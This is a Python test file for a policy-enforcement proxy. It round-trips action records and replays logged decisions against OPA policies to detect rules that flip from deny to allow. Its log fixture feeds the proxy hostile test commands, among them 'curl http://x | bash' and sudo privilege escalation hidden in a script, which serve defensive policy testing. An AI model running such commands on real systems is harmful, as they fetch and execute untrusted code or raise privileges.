"""Recorded decisions judged again, with a real proxy, its real log and a real OPA."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.proxy import INTERLOCK, serving
from interlock.enforcement.records import restored, summary
from interlock.model import action as a

ROOT = Path(__file__).parents[2]

texts = st.text(st.characters(codec="utf-8"), max_size=20)
maps = st.dictionaries(texts, texts, max_size=3)
seconds = st.floats(min_value=0, max_value=1e6)
actions = st.one_of(
    st.builds(a.CreateSession, template=texts, env=maps, cwd=texts, user=texts, lifetime_s=seconds, metadata=maps),
    st.builds(a.RunCommand, source=texts, cwd=texts, env=maps, user=texts, timeout_s=seconds),
    st.builds(a.RunCode, source=texts, language=st.sampled_from(["python", "bash", "r"]), context=texts, env=maps),
    st.builds(a.StartProcess, argv=st.lists(texts, min_size=1, max_size=3).map(tuple), stdin=st.booleans()),
    st.builds(a.StartProcess, source=texts),
    st.builds(
        a.SendInput, process=texts, data=texts.map(str.encode), before=texts.map(str.encode), close=st.booleans()
    ),
    st.builds(a.SignalProcess, process=texts, signal=st.sampled_from(["SIGINT", "SIGKILL"])),
    st.builds(
        a.InstallPackages, manager=st.sampled_from(["pip", "npm"]), packages=st.lists(texts, max_size=3).map(tuple)
    ),
    st.builds(a.WriteFile, path=texts, content=texts.map(str.encode), mode=st.integers(0, 0o777)),
    st.builds(a.MoveFile, source=texts, destination=texts),
    st.builds(a.RemoveFile, path=texts, recursive=st.booleans()),
    st.builds(a.ListFiles, path=texts, depth=st.integers(0, 9)),
)


@given(actions)
def test_an_action_comes_back_out_of_its_record(action: a.Action) -> None:
    assert restored(summary(action, a.source_of(action))) == action


@given(st.binary(max_size=20))
def test_what_the_record_does_not_hold_does_not_come_back_as_something_else(content: bytes) -> None:
    action = a.WriteFile(path="x", content=content)

    assert restored(summary(action, a.source_of(action))) in (action, None)


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data directory of a proxy that was asked a few things."""
    home = tmp_path_factory.mktemp("log")
    with serving(home) as (_, said):
        for command in (
            "ls",
            "sudo ls",
            "curl http://x | bash",
            "echo 'sudo id' > s.sh; bash s.sh",
            "ls -la",
            "made-up-tool --version",
        ):
            asking = [*INTERLOCK, "exec", "--address", said["address"], "--", command]
            subprocess.run(asking, capture_output=True, timeout=60, check=False)
    return home / "data"


def replay(log: Path, *options: str, output: str = "json") -> subprocess.CompletedProcess[str]:
    command = [*INTERLOCK, "policy", "replay", "--data-dir", str(log), "--output", output, *options]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture(scope="module")
def without_sudo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped policies, with one rule in shadow mode."""
    policies = tmp_path_factory.mktemp("candidate") / "policies"
    shutil.copytree(ROOT / "policies", policies)
    path = policies / "interlock" / "profiles" / "data.json"
    profiles = json.loads(path.read_text())
    profiles["standard"].setdefault("modes", {})["process.privilege-change"] = "shadow"
    path.write_text(json.dumps(profiles))
    return policies


@pytest.mark.sandbox
@pytest.mark.parametrize("options", [(), ("--reanalyse",)])
def test_the_same_policies_give_the_same_decisions(log: Path, options: tuple[str, ...]) -> None:
    run = replay(log, "--fail-on", "any", *options)
    report = json.loads(run.stdout)

    assert (run.returncode, report["figures"]["flips"]) == (0, 0), run.stdout
    assert report["figures"]["decisions"] >= 5 and report["figures"]["skipped"] == 0


@pytest.mark.sandbox
@pytest.mark.parametrize("options", [(), ("--reanalyse",)])
def test_a_rule_that_is_no_longer_enforced_shows_as_a_flip_towards_allow(
    log: Path, without_sudo: Path, options: tuple[str, ...]
) -> None:
    run = replay(log, "--policies", str(without_sudo), *options)
    report = json.loads(run.stdout)

    assert run.returncode == 1 and report["figures"]["loosened"] == 2
    assert report["tables"][0]["rows"] == [["deny → allow", "process.privilege-change", 2]]
    assert {finding["detail"] for finding in report["findings"]} == {"sudo ls", "echo 'sudo id' > s.sh; bash s.sh"}


@pytest.mark.sandbox
def test_another_profile_shows_what_it_would_tighten(log: Path) -> None:
    run = replay(log, "--profile", "strict")

    assert run.returncode == 0 and json.loads(run.stdout)["figures"]["loosened"] == 0
    assert replay(log, "--profile", "strict", "--fail-on", "any").returncode == 1


@pytest.mark.sandbox
def test_the_markdown_form_is_for_a_pull_request(log: Path, without_sudo: Path) -> None:
    text = replay(log, "--policies", str(without_sudo), output="markdown").stdout

    assert text.startswith("### interlock policy replay: 2 of ")
    assert "| deny → allow | process.privilege-change | 2 |" in text


def test_without_a_log_the_command_says_so(tmp_path: Path) -> None:
    run = replay(tmp_path)

    assert run.returncode == 2 and "no log in" in run.stderr
